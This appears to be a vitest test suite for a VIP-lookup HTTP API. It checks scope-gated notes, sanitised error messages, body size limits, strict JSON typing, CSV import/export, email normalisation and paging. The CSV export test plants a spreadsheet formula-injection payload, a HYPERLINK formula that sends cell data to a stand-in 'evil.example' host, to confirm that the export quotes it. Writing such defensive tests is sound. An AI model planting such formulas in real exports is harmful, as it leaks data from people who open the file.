// What the HTTP API promises callers, tried the way a careless client or an attacker would: a real
// server on loopback over a real Postgres (no CRMs, no Temporal: these routes need neither).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createToken } from '../admin/tokens.js';
import { applyMigrations } from '../prisma/migrate.js';
import { DEFAULT_HANDLING } from '../lookup/config.js';
import { startApiServer, type ApiServer } from '../server/main.js';
import { request, startTcpProxy } from './http-test-client.js';
import { freshDatabase } from './setup/database.js';

const admin = { name: 'test-admin', surface: 'cli' as const };
const SECRET_NOTE = 'secret: renewal at risk';
// What an error answer must never show: the query layer's text, source paths, code, where the database is.
const INTERNALS = /prisma|invocation|node_modules|\/work\/|\.ts:\d|\bat .+\(|127\.0\.0\.1|localhost|ECONNREFUSED|:\d{4,5}\b/i;

async function startServer(databaseUrl: string): Promise<ApiServer> {
  return startApiServer({
    databaseUrl, temporalAddress: '127.0.0.1:1', temporalNamespace: 'default', syncTaskQueue: 'unused', port: 0,
    lookupConfig: { handling: DEFAULT_HANDLING, owners: {} },
  });
}

describe('HTTP API guarantees', () => {
  let databaseUrl: string;
  let api: ApiServer;
  const tokens = { lookup: '', notes: '', writer: '', admin: '' };
  const call = (method: string, path: string, opts: Parameters<typeof request>[3] = {}) => request(api.url, method, path, opts);

  beforeAll(async () => {
    databaseUrl = await freshDatabase('api_guarantees');
    await applyMigrations(databaseUrl);
    api = await startServer(databaseUrl);
    tokens.lookup = (await createToken(api.db, { name: 'bot', scopes: ['lookup'] }, admin)).token;
    tokens.notes = (await createToken(api.db, { name: 'bot-notes', scopes: ['lookup', 'notes:read'] }, admin)).token;
    tokens.writer = (await createToken(api.db, { name: 'writer', scopes: ['vips:write'] }, admin)).token;
    tokens.admin = (await createToken(api.db, { name: 'ops', scopes: ['admin'] }, admin)).token;
  });
  afterAll(async () => {
    await api?.close();
  });

  describe('notes are shown only with notes:read, on every route', () => {
    it('leaves notes out of the answers to POST and PATCH /v1/vips for a vips:write token', async () => {
      const added = await call('POST', '/v1/vips', { token: tokens.writer, body: { email: 'notes-1@example.com', level: 3, notes: SECRET_NOTE } });
      expect(added.status, added.text).toBe(201);
      expect(added.json).toMatchObject({ email: 'notes-1@example.com', level: 3 });
      expect(added.json).not.toHaveProperty('notes');
      expect(added.text).not.toContain(SECRET_NOTE);

      const edited = await call('PATCH', '/v1/vips/notes-1@example.com', { token: tokens.writer, body: { level: 4 } });
      expect(edited.status, edited.text).toBe(200);
      expect(edited.json).toMatchObject({ level: 4 });
      expect(edited.text).not.toContain(SECRET_NOTE);

      const renamed = await call('PATCH', '/v1/vips/notes-1@example.com', { token: tokens.writer, body: { notes: `${SECRET_NOTE}!` } });
      expect(renamed.status, renamed.text).toBe(200);
      expect(renamed.text).not.toContain(SECRET_NOTE);
    });

    it('still shows them to a token that may read them', async () => {
      const shown = await call('GET', '/v1/vips/notes-1@example.com', { token: tokens.notes });
      expect(shown.json).toMatchObject({ notes: `${SECRET_NOTE}!` });
      const edited = await call('PATCH', '/v1/vips/notes-1@example.com', { token: tokens.admin, body: { level: 5 } });
      expect(edited.json).toMatchObject({ level: 5, notes: `${SECRET_NOTE}!` });
    });
  });

  describe('errors say what is wrong, never how the server is built', () => {
    it.each([
      ['a NUL in search', 'GET', '/v1/vips?search=%00', undefined],
      ['an offset past what a page query takes', 'GET', '/v1/vips?offset=99999999999999999999', undefined],
      ['a NUL in notes', 'POST', '/v1/vips', { email: 'nul-notes@example.com', level: 2, notes: 'a\u0000b' }],
      ['a NUL in a name', 'POST', '/v1/vips', { email: 'nul-name@example.com', level: 2, name: 'Ada\u0000' }],
      ['a NUL in a company (edit)', 'PATCH', '/v1/vips/notes-1@example.com', { company: 'Acme\u0000' }],
    ])('answers %s with 400 and a short message', async (_what, method, path, body) => {
      const answer = await call(method, path, { token: tokens.admin, body });
      expect(answer.status, answer.text).toBe(400);
      expect(answer.json).toMatchObject({ error: expect.any(String), message: expect.any(String) });
      expect(answer.text).not.toMatch(INTERNALS);
      expect((answer.json.message as string).length).toBeLessThan(300);
    });

    it('answers 503 with a short message while the database is down, and logs nothing to the caller', async () => {
      const proxy = await startTcpProxy(databaseUrl);
      const viaProxy = await startServer(proxy.databaseUrl);
      try {
        expect((await request(viaProxy.url, 'GET', '/v1/vips', { token: tokens.lookup })).status).toBe(200);
        await proxy.stop();
        for (const path of ['/v1/vips', '/v1/lookup?email=ada@acme.com', '/v1/vips/ada@acme.com']) {
          const answer = await request(viaProxy.url, 'GET', path, { token: tokens.admin });
          expect(answer.status, answer.text).toBe(503);
          expect(answer.json).toMatchObject({ error: 'database_unavailable' });
          expect(answer.text).not.toMatch(INTERNALS);
          expect(answer.text).not.toContain(String(proxy.port));
        }
      } finally {
        await viaProxy.close().catch(() => {});
        await proxy.stop();
      }
    });
  });

  describe('each route takes a body of the size it needs', () => {
    const big = 'x'.repeat(1024 * 1024);
    it('refuses a 1 MB body to /mcp from a lookup token with 413', async () => {
      const answer = await call('POST', '/mcp', {
        token: tokens.lookup,
        raw: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params: { name: 'lookup_vip', arguments: { email: 'a@b.co', pad: big } } }),
      });
      expect(answer.status, answer.text.slice(0, 300)).toBe(413);
    });

    it('refuses a 1 MB JSON body to POST /v1/vips with 413', async () => {
      const answer = await call('POST', '/v1/vips', { token: tokens.writer, body: { email: 'big@example.com', level: 1, notes: big } });
      expect(answer.status, answer.text.slice(0, 300)).toBe(413);
    });

    it('still takes a CSV import of several megabytes', async () => {
      const rows = Array.from({ length: 60_000 }, (_, i) => `bulk-${i}@example.com,1,Person number ${i}`);
      const csv = `email,level,name\n${rows.join('\n')}\n`;
      expect(csv.length).toBeGreaterThan(2 * 1024 * 1024);
      const answer = await call('POST', '/v1/vips/import?dryRun=true', { token: tokens.writer, csv });
      expect(answer.status, answer.text.slice(0, 300)).toBe(200);
      expect(answer.json).toMatchObject({ total: 60_000, valid: 60_000, dryRun: true });
    });
  });

  describe('JSON bodies are taken as typed, never coerced', () => {
    it.each([
      ['a boolean level', { email: 'types@example.com', level: true }, 'level'],
      ['a level as text', { email: 'types@example.com', level: '3' }, 'level'],
      ['a boolean name', { email: 'types@example.com', level: 3, name: false }, 'name'],
      ['a numeric company', { email: 'types@example.com', level: 3, company: 42 }, 'company'],
      ['a numeric email', { email: 42, level: 3 }, 'email'],
      ['an unknown field', { email: 'types@example.com', level: 3, salary: 1 }, 'salary'],
      ['no level', { email: 'types@example.com' }, 'level'],
    ])('POST /v1/vips rejects %s with 400 naming the field', async (_what, body, field) => {
      const answer = await call('POST', '/v1/vips', { token: tokens.writer, body });
      expect(answer.status, answer.text).toBe(400);
      expect(answer.json.message).toContain(field);
    });

    it.each([
      ['a boolean level', { level: true }, 'level'],
      ['clearOverride as text', { clearOverride: 'yes' }, 'clearOverride'],
      ['a numeric phone', { phone: 4155552671 }, 'phone'],
    ])('PATCH /v1/vips/{email} rejects %s with 400 naming the field', async (_what, body, field) => {
      const answer = await call('PATCH', '/v1/vips/notes-1@example.com', { token: tokens.writer, body });
      expect(answer.status, answer.text).toBe(400);
      expect(answer.json.message).toContain(field);
    });

    it('still reads numbers and booleans from query strings, where they are text', async () => {
      const answer = await call('GET', '/v1/vips?level=5&all=true&desc=false&limit=10&offset=0', { token: tokens.lookup });
      expect(answer.status, answer.text).toBe(200);
      expect((answer.json.items as { email: string }[]).map((v) => v.email)).toContain('notes-1@example.com');
      expect((await call('GET', '/v1/vips?all=yes', { token: tokens.lookup })).status).toBe(400);
      expect((await call('GET', '/v1/vips?level=5.5', { token: tokens.lookup })).status).toBe(400);
    });
  });

  describe('CSV import and export', () => {
    it('rejects only the row with a NUL byte, with its line and reason, and imports the rest', async () => {
      const csv = 'email,level,name\nnul-ok-1@example.com,2,Fine\nnul-bad@example.com,3,Bad\u0000Name\nnul-ok-2@example.com,4,Also fine\n';
      const answer = await call('POST', '/v1/vips/import?file=nul.csv', { token: tokens.writer, csv });
      expect(answer.status, answer.text).toBe(200);
      expect(answer.json).toMatchObject({ total: 3, valid: 2, invalid: 1, created: 2 });
      expect(answer.json.errors).toEqual([{ row: 3, email: 'nul-bad@example.com', message: 'name contains a control character (U+0000); remove it' }]);
      expect(await api.db.vip.count({ where: { email: { startsWith: 'nul-ok-' } } })).toBe(2);
    });

    it('refuses a file that is not UTF-8, naming its lines, instead of storing U+FFFD', async () => {
      const text = 'email,level,name\nlatin-1@example.com,2,Ren\u00e9\nlatin-2@example.com,2,Plain\n';
      const answer = await call('POST', '/v1/vips/import', { token: tokens.writer, csv: Uint8Array.from([...text].map((c) => c.charCodeAt(0))) });
      expect(answer.status, answer.text).toBe(400);
      expect(answer.json.message).toContain('not UTF-8: line 2 holds');
      expect(await api.db.vip.count({ where: { email: { startsWith: 'latin-' } } })).toBe(0);
    });

    it('exports formula-like cells quoted, and reads its own export back unchanged', async () => {
      const evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
      expect((await call('POST', '/v1/vips', { token: tokens.writer, body: { email: 'formula@example.com', level: 5, name: evil, company: '@SUM(1+1)', notes: "'=kept as typed" } })).status).toBe(201);
      const exported = await call('GET', '/v1/vips/export', { token: tokens.admin });
      expect(exported.status).toBe(200);
      expect(exported.text).toContain(`formula@example.com,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",'@SUM(1+1),5,,''=kept as typed`);
      for (const line of exported.text.trim().split('\n').slice(1)) expect(line, line).not.toMatch(/(^|,)"?[=+\-@\t\r]/);
      const again = await call('POST', '/v1/vips/import', { token: tokens.writer, csv: exported.text });
      expect(again.json).toMatchObject({ invalid: 0, created: 0, updated: 0 });
      expect(await api.db.vip.findUniqueOrThrow({ where: { email: 'formula@example.com' } })).toMatchObject({ name: evil, company: '@SUM(1+1)', notes: "'=kept as typed" });
    });
  });

  describe('email identity', () => {
    it('treats the punycode, Unicode and decomposed forms of one address as one person', async () => {
      const added = await call('POST', '/v1/vips', { token: tokens.writer, body: { email: 'Jose\u0301@xn--bcher-kva.ch', level: 4 } });
      expect(added.status, added.text).toBe(201);
      expect(added.json).toMatchObject({ email: 'josé@bücher.ch' });
      for (const form of ['josé@bücher.ch', 'JOSÉ@XN--BCHER-KVA.CH', 'jose\u0301@bu\u0308cher.ch']) {
        const found = await call('GET', `/v1/lookup?email=${encodeURIComponent(form)}`, { token: tokens.lookup });
        expect(found.json, form).toMatchObject({ email: 'josé@bücher.ch', isVip: true, level: 4 });
      }
      const again = await call('POST', '/v1/vips', { token: tokens.writer, body: { email: 'josé@BÜCHER.ch', level: 2 } });
      expect(again.status).toBe(409);
    });
  });

  describe('concurrent edits', () => {
    it('leaves a level history that chains: each change starts where the previous one ended (20 PATCHes at once)', async () => {
      const email = 'contended@example.com';
      expect((await call('POST', '/v1/vips', { token: tokens.writer, body: { email, level: 1 } })).status).toBe(201);
      const levels = Array.from({ length: 20 }, (_, i) => (i % 5) + 1);
      const answers = await Promise.all(levels.map((level) => call('PATCH', `/v1/vips/${email}`, { token: tokens.writer, body: { level } })));
      expect(answers.map((a) => a.status)).toEqual(levels.map(() => 200));
      const vip = await api.db.vip.findUniqueOrThrow({ where: { email }, include: { levelChanges: { orderBy: { id: 'asc' } } } });
      const history = vip.levelChanges.map((c) => [c.oldLevel, c.newLevel]);
      expect(history[0]).toEqual([null, 1]);
      for (let i = 1; i < history.length; i++) expect(history[i]![0], JSON.stringify(history)).toBe(history[i - 1]![1]);
      expect(history.at(-1)![1]).toBe(vip.level);
    });
  });

  describe('paging, search, phones and notes length', () => {
    it.each([
      ['an offset of 2^32', '/v1/vips?offset=4294967296'],
      ['a negative offset', '/v1/vips?offset=-1'],
      ['a limit of 0', '/v1/vips?limit=0'],
      ['a limit over 1000', '/v1/vips?limit=1001'],
    ])('rejects %s with 400 instead of answering another page', async (_what, path) => {
      const answer = await call('GET', path, { token: tokens.lookup });
      expect(answer.status, answer.text).toBe(400);
      expect(answer.json.message).toMatch(/offset|limit/);
    });

    it('answers the largest offset it takes with an empty page', async () => {
      const answer = await call('GET', '/v1/vips?offset=2147483647', { token: tokens.lookup });
      expect(answer.status, answer.text).toBe(200);
      expect(answer.json.items).toEqual([]);
    });

    it('searches for % and _ as themselves, not as wildcards', async () => {
      for (const [email, name] of [['pct@example.com', '100% Club'], ['nopct@example.com', '1000 Club'], ['under@example.com', 'a_b Ltd'], ['nounder@example.com', 'axb Ltd'], ['slash@example.com', 'back\\slash']]) {
        expect((await call('POST', '/v1/vips', { token: tokens.writer, body: { email, level: 1, name } })).status).toBe(201);
      }
      const names = async (search: string) =>
        ((await call('GET', `/v1/vips?search=${encodeURIComponent(search)}`, { token: tokens.lookup })).json.items as { name: string }[]).map((v) => v.name);
      expect(await names('100%')).toEqual(['100% Club']);
      expect(await names('a_b')).toEqual(['a_b Ltd']);
      expect(await names('k\\s')).toEqual(['back\\slash']);
      expect(await names('%')).toEqual(['100% Club']);
    });

    it('stores an admin phone in E.164 and rejects one that is not a phone number, naming the field', async () => {
      const added = await call('POST', '/v1/vips', { token: tokens.writer, body: { email: 'phone@example.com', level: 2, phone: '+1 (415) 555-2671' } });
      expect(added.status, added.text).toBe(201);
      expect(added.json).toMatchObject({ phone: '+14155552671' });
      const edited = await call('PATCH', '/v1/vips/phone@example.com', { token: tokens.writer, body: { phone: '+44 20 7946 0958' } });
      expect(edited.json).toMatchObject({ phone: '+442079460958' });
      const bad = await call('PATCH', '/v1/vips/phone@example.com', { token: tokens.writer, body: { phone: 'call reception' } });
      expect(bad.status).toBe(400);
      expect(bad.json.message).toContain('phone');
    });

    it('counts notes in characters (code points) everywhere: 2,000 emoji are allowed, 2,001 are not', async () => {
      const ok = await call('POST', '/v1/vips', { token: tokens.writer, body: { email: 'emoji@example.com', level: 2, notes: '\u{1F600}'.repeat(2000) } });
      expect(ok.status, ok.text).toBe(201);
      const tooLong = await call('PATCH', '/v1/vips/emoji@example.com', { token: tokens.writer, body: { notes: '\u{1F600}'.repeat(2001) } });
      expect(tooLong.status).toBe(400);
      expect(tooLong.json.message).toContain('notes');
    });
  });
});
